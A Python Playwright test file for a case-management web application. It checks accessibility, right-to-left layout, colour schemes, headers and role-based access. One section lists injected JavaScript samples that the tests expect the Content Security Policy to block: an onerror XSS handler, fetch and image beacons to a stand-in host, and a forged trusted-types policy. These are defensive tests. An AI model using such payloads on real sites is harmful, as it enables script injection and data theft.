"""What holds for every page: anybody can use it, it keeps to its policy, and is kept by nobody."""

import re
from contextlib import suppress
from functools import partial

import pytest
from playwright.sync_api import Error, Route, expect

from tests.browser.conftest import problems_of
from tests.browser.examine import problems
from tests.browser.states import STATES, show
from tests.browser.steps import open_case, sign_in

PAGES = {
    "": [
        *("/account/sign-in/", "/calendar/", "/help/", "/help/first-day/", "/help/statistics/"),
    ],
    "officer": [
        *("/", "/cases/", "/cases/work/", "/cases/search/", "/cases/register/", "/cases/incoming/"),
        *("/cases/workbooks/", "/referrals/", "/providers/", "/people/me/", "/help/"),
        *("/cases/{case}/", "/cases/{case}/person/", "/cases/{case}/what-happened/"),
        *("/cases/{case}/consent/", "/cases/{case}/sharing/", "/cases/{case}/trail/"),
        "/cases/{case}/timeline/",
        *("/cases/{case}/assistance/", "/cases/{case}/refer/"),
        *("/cases/{case}/files/add/", "/cases/{case}/who/"),
        *("/cases/{case}/tasks/add/", "/cases/{case}/close/"),
        *("/nowhere/", "/statistics/", "/account/display/"),
    ],
    "supervisor": [
        *("/", "/cases/", "/cases/due-for-erasure/", "/audit/officers/", "/cases/broken-glass/"),
        *("/budgets/", "/cases/import/", "/jobs/"),
    ],
    "administrator": [
        *("/", "/cases/retention/", "/people/", "/people/new/", "/people/waiting/", "/keys/"),
        *("/people/teams/", "/people/offices/", "/people/offices/new/"),
    ],
    "partner.admin": ["/", "/people/"],
    "auditor": ["/", "/audit/", "/audit/verify/", "/audit/review/", "/audit/state/"],
    "analyst": [
        *("/", "/statistics/", "/statistics/?rows=year&columns=gender"),
        *("/statistics/tables/gender.age.exploitation/", "/statistics/snapshots/"),
        "/statistics/tables/country~level-0/",
        *("/statistics/verifications/", "/people/me/tokens/"),
        *("/statistics/releases/", "/statistics/releases/propose/"),
    ],
    "director": ["/", "/statistics/dashboards/"],
    "donor": ["/statistics/releases/"],
}
REFUSED = {("officer", "/nowhere/"): 404, ("officer", "/statistics/"): 403}
REFUSED |= {("officer", "/account/display/"): 405}
REFUSED |= {("supervisor", "/cases/broken-glass/"): 403}
# Forms that are sent as they are: how often, until the page tells what is wrong.
MISTAKES = dict.fromkeys(["/account/sign-in/", "/cases/register/", "/people/new/"], 1)
MISTAKES |= {"/cases/{case}/consent/": 1, "/cases/{case}/close/": 1, "/cases/{case}/assistance/": 2}


@pytest.mark.parametrize("username", PAGES)
def test_every_page_is_fit_for_everybody(visit, open_browser, username):
    page = visit(username) if username else open_browser().new_page()
    reference = open_case(page) if username == "officer" else ""
    wrong = {}
    for address in PAGES[username]:
        response = page.goto(address.format(case=reference))
        assert response.status == REFUSED.get((username, address), 200)
        assert response.headers["cache-control"] == "no-store"
        assert "default-src 'none'" in response.headers["content-security-policy"]
        # Where messages stand; the page to leave for tells nothing.
        assert page.locator("#messages[role=status]").count() == (address != "/calendar/")
        wrong[address] = problems(page)
        for times in range(MISTAKES.get(address, 0)):
            with page.expect_navigation():
                page.locator("#main form[method=post] [type=submit]").last.click()
            wrong[f"{address}, sent {times + 1}"] = problems(page)
        if address in MISTAKES:
            expect(page.locator(".govuk-error-summary")).to_be_visible()
    assert not {address: found for address, found in wrong.items() if found}


@pytest.mark.parametrize("state", STATES)
def test_what_is_shown_when_nothing_works_is_fit_for_everybody(open_browser, state):
    page = open_browser().new_page()
    found = {}
    for language in ("en", "ru", "be"):
        show(page, state, language)
        found[language] = problems(page)
    assert not any(found.values()), found


def test_a_page_that_is_not_fit_would_be_noticed(open_browser):
    page = open_browser().new_page()
    page.goto("/help/")
    page.evaluate(
        """() => {
        const [link, wide] = ["a", "p"].map((name) => document.createElement(name));
        link.href = "/";
        wide.textContent = "w".repeat(60);
        const [pale, status] = ["p", "p"].map((name) => document.createElement(name));
        pale.textContent = "pale";
        pale.className = "app-none";
        pale.attributeStyleMap.set("color", "#555");
        status.role = "status";
        document.querySelector("h1").remove();
        document.querySelector("main").append(link, wide, pale, status);
    }"""
    )
    found = " ".join(problems(page))
    for what in ("320 px, too wide", "too small: a.", "link-name", "page-has-heading-one"):
        assert what in found
    assert "dark, color-contrast: .app-none" in found
    assert "live regions: " in found
    assert "px, color-contrast: " not in found  # on paper that is light, the grey is dark enough


LONG_NAMES = """() => document.querySelectorAll(".app-dense tbody tr").forEach((row) => {
    row.cells[1].textContent = "Пракапчучка Віялецянка Аляксандраўна";
    row.cells[3].textContent = "Aliaksandra Vasiliukevich-Karol";
})"""


def test_twenty_five_cases_are_on_one_screen(visit):
    page = visit("supervisor")
    page.set_viewport_size({"width": 1280, "height": 1024})
    page.goto("/cases/")
    rows = page.locator(".app-dense tbody tr")
    assert rows.count() >= 25
    page.evaluate(LONG_NAMES)
    last = rows.nth(24).bounding_box()
    assert last["y"] + last["height"] <= 1000


# What stands beside something else, and what points somewhere.
PARTS = (
    "th, td, dt, dd, summary, input, select, h1, h2, .govuk-button, .app-help, .app-account,"
    " .moj-timeline__item, .moj-sub-navigation__item, .govuk-service-navigation__item"
)
BOXES = """(parts) => [...document.querySelectorAll(parts)]
    .filter((one) => one.checkVisibility())
    .map((one) => [one, one.getBoundingClientRect()])
    .map(([one, {left, right}]) => [`${one.localName}.${one.className}`, left, right])"""
POINTERS = {
    ".govuk-back-link": ("::before", "transform"),
    ".govuk-details:not([open]) > summary": ("::before", "clipPath"),
    ".govuk-pagination [aria-hidden]": (None, "transform"),
}
POINTED = """([what, part, property]) => {
    const found = document.querySelector(what);
    return found && getComputedStyle(found, part)[property];
}"""


@pytest.mark.parametrize("phone", [False, True], ids=["desk", "phone"])
def test_pages_mirror_for_languages_written_from_right_to_left(visit, phone):
    page = visit("officer", phone=phone)
    reference = open_case(page)
    pointers = set()
    for address in ("/cases/", *(f"/cases/{reference}/{part}" for part in ("", "trail/", "who/"))):
        page.goto(address)
        width = page.evaluate("document.documentElement.clientWidth")
        seen = []
        for direction in ("ltr", "rtl"):
            page.evaluate("(direction) => { document.documentElement.dir = direction }", direction)
            pointed = {what: page.evaluate(POINTED, [what, *of]) for what, of in POINTERS.items()}
            seen.append((page.evaluate(BOXES, PARTS), pointed))
        (boxes, pointed), (mirrored, pointed_back) = seen
        wrong = [
            (name, left, right, back)
            for (name, left, right), (_name, back, _right) in zip(boxes, mirrored, strict=True)
            if abs(width - right - back) > 2
        ]
        assert not wrong, (address, wrong)
        pointers |= {what for what in POINTERS if pointed[what] != pointed_back[what]}
        assert page.evaluate("document.documentElement.scrollWidth") == width
    assert pointers == set(POINTERS)


PAPER = "getComputedStyle(document.body).backgroundColor"
WHITE, DARK, BLACK = "rgb(255, 255, 255)", "rgb(19, 33, 37)", "rgb(0, 0, 0)"


def test_colours_are_those_of_the_device_until_somebody_chooses(visit):
    """Without scripts; on paper it is light in any case."""
    page = visit("officer", java_script_enabled=False)
    for device, paper in (
        ({"color_scheme": "light"}, WHITE),
        ({"color_scheme": "dark"}, DARK),
        ({"color_scheme": "dark", "contrast": "more"}, BLACK),
        ({"color_scheme": "dark", "media": "print"}, WHITE),
    ):
        page.emulate_media(**{"media": "screen", "contrast": "no-preference"} | device)
        assert page.evaluate(PAPER) == paper, device
    page.emulate_media(media="screen", color_scheme="light", contrast="no-preference")
    page.get_by_role("button", name="Dark").click()
    assert page.evaluate(PAPER) == DARK
    page.emulate_media(media="print")
    assert page.evaluate(PAPER) == WHITE
    page.emulate_media(media="screen", color_scheme="dark")
    page.get_by_role("button", name="Light").click()
    assert page.evaluate(PAPER) == WHITE
    page.get_by_role("button", name="Colours as on this device").click()
    assert page.evaluate(PAPER) == DARK


# What a hole in our pages could let somebody plant: which part of the policy stands in its way, and how.
PLANTED = {
    "a script by its address, though it is ours": (
        "script-src-elem",
        """const script = document.createElement("script");
        script.onload = () => { window.ran = true; };
        script.src = trusted.createScriptURL(document.querySelector("script[src*=htmx]").src);
        document.head.append(script);""",
    ),
    "markup with a handler": (
        "script-src-attr",
        """document.querySelector("main").innerHTML =
            trusted.createHTML("<img src=/static/nothing onerror='window.ran = true'>");""",
    ),
    "text as markup": (
        "require-trusted-types-for",
        """document.querySelector("main").innerHTML = "<b>planted</b>"; window.ran = true;""",
    ),
    "text as a script": (
        "require-trusted-types-for",
        """document.createElement("script").textContent = "planted"; window.ran = true;""",
    ),
    "text as an address of a script": (
        "require-trusted-types-for",
        """document.createElement("script").src = "/static/planted.js"; window.ran = true;""",
    ),
    "a policy for everything": (
        "trusted-types",
        """trustedTypes.createPolicy("default", {}); window.ran = true;""",
    ),
    "the policy of htmx, a second time": (
        "trusted-types",
        """trustedTypes.createPolicy("tutela", {}); window.ran = true;""",
    ),
    "a form that posts elsewhere": (
        "form-action",
        """const form = document.createElement("form");
        form.action = "http://elsewhere.example/";
        form.method = "post";
        document.body.append(form);
        form.submit();""",
    ),
    "another base for addresses": (
        "base-uri",
        """const base = document.createElement("base");
        base.href = "http://elsewhere.example/";
        document.head.append(base);""",
    ),
    "a picture that tells somebody": (
        "img-src",
        """const picture = new Image();
        picture.onload = () => { window.ran = true; };
        picture.src = "http://elsewhere.example/?who";""",
    ),
    "a question to somebody": (
        "connect-src",
        """fetch("http://elsewhere.example/?who").then(() => { window.ran = true; }, () => {});""",
    ),
    "a frame": (
        "frame-src",
        """const frame = document.createElement("iframe");
        frame.src = "/help/";
        document.body.append(frame);""",
    ),
    "a style": (
        "style-src-elem",
        """const style = document.createElement("style");
        style.textContent = "main { display: none }";
        document.head.append(style);""",
    ),
}
WATCH = """document.addEventListener("securitypolicyviolation", (event) => {
    (window.broken ||= []).push(event.effectiveDirective);
})"""


@pytest.fixture
def watched(chromium, served):
    """A page whose violations of its policy are expected; `problems` is what the console told."""
    context = chromium.new_context(base_url=served.address)
    page = context.new_page()
    page.problems = []
    page.on("console", lambda message: page.problems.extend(problems_of(message)))
    page.add_init_script(WATCH)
    yield page
    context.close()


def until_blocked(page):
    """Wait until the browser reports what it stopped. Asked from here: the page may evaluate nothing."""
    for _try in range(200):
        if page.evaluate("window.broken?.length"):
            return
        page.wait_for_timeout(50)
    raise AssertionError("nothing was stopped")


@pytest.mark.parametrize("what", PLANTED)
def test_what_is_planted_is_blocked(watched, what):
    directive, code = PLANTED[what]
    if "trusted." in code:  # as if the one policy there is had been got hold of
        watched.add_init_script(
            "window.trusted = window.trustedTypes.createPolicy('tutela', {"
            "createHTML: (text) => text, createScriptURL: (text) => text})"
        )
    watched.goto("/account/sign-in/")
    with suppress(Error):  # Trusted Types throw
        watched.evaluate(f"() => {{ {code} }}")
    until_blocked(watched)
    assert watched.evaluate("window.broken").pop() == directive
    assert watched.evaluate("window.ran") is None
    assert watched.url.endswith("/account/sign-in/")


def test_other_tests_would_notice_what_is_planted(watched):
    watched.goto("/account/sign-in/")
    assert not watched.problems
    watched.evaluate(f"() => {{ {PLANTED['a style'][1]} }}")
    until_blocked(watched)
    assert any("Content Security Policy" in problem for problem in watched.problems)


def test_what_is_planted_in_an_answer_to_htmx_does_not_run(watched, served):
    """As if a template had forgotten to escape: what htmx swaps in is held by the same policy."""
    page = watched
    sign_in(page, "officer", served.password)
    planted = (
        "<div id='case-list'><b id='planted'>planted</b><img src='/nothing' onerror='window.ran = 1'>"
        "<button hx-on:click='window.ran = 2' onclick='window.ran = 3'>press</button>%s</div>"
    )
    script = "<script>window.ran = 4</script>"
    for body in (planted % "", planted % script):
        answer = {"body": body, "content_type": "text/html"}
        page.route("**/cases/?status=*", partial(_answer, **answer))
        page.goto("/cases/")
        assert not page.problems
        page.get_by_role("combobox", name="Status").select_option("Active")
        if script in body:
            page.wait_for_timeout(500)
            assert page.locator("#planted").count() == 0, "an answer with a script is not shown"
        else:
            page.get_by_role("button", name="press").click()
        page.wait_for_timeout(200)
        assert page.evaluate("window.ran") is None
        assert page.problems
        page.problems.clear()
        page.unroute("**/cases/?status=*")


def _answer(route: Route, **with_what: str) -> None:
    route.fulfill(**with_what)


def test_of_two_quick_choices_both_count(visit):
    page = visit("officer")
    page.goto("/cases/")
    first = re.compile(r"/cases/\?status=Active(?!.*mine=on)")
    page.route(first, lambda route: None)  # the first answer never comes
    page.get_by_role("combobox", name="Status").select_option("Active")
    page.get_by_label("Only those I am the officer of").check()
    page.wait_for_url("**/cases/?status=Active&**mine=on**")
    expect(page.get_by_role("rowheader").first).to_be_visible()
